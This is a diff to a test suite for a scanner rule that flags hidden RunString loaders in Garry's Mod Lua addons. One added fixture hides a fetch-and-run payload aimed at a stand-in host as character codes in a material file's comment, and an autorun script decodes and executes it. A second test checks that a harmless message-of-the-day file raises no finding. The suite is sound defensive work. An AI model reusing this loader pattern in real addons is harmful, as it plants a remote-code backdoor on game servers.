@@ -46,6 +46,34 @@ describe('runstring', () => {
     });
     expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
   });
+  it("character codes in a material's comment, picked out and run by the file that reads it", () => {
+    // The payload: http.Fetch("https://vm.invalid/x", RunString), as character codes.
+    const codes = Array.from('http.Fetch("https://vm.invalid/x",RunString)', (c) =>
+      c.charCodeAt(0),
+    ).join(' ');
+    const findings = check(rule, {
+      'materials/effects/shine.vmt': `"UnlitGeneric"\n{\n  "$basetexture" "effects/shine"\n  // ${codes}\n}`,
+      'lua/autorun/server/sv_shine.lua': [
+        'local t = file.Read("materials/effects/shine.vmt", "GAME") or ""',
+        'local c = t:match("//%s*([%d ]+)") or ""',
+        'local s = ""',
+        'for n in c:gmatch("%d+") do s = s .. string.char(tonumber(n)) end',
+        'RunString(s)',
+      ].join('\n'),
+    });
+    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
+  });
+  it('a message of the day the addon ships, read and shown', () => {
+    const findings = check(rule, {
+      'data_static/motd.txt': 'Welcome! Type !rules. Lua tip: never RunString what players send.',
+      'lua/autorun/server/sv_motd.lua': [
+        'local motd = file.Read("data_static/motd.txt", "GAME") or ""',
+        'local first = motd:match("^[^.!]+")',
+        'hook.Add("PlayerInitialSpawn", "motd", function(ply) ply:ChatPrint(first or motd) end)',
+      ].join('\n'),
+    });
+    expect(findings).toEqual([]);
+  });
   it('version checker parsing a number', () => {
     const findings = check(rule, {
       'lua/autorun/server/sv_x.lua':
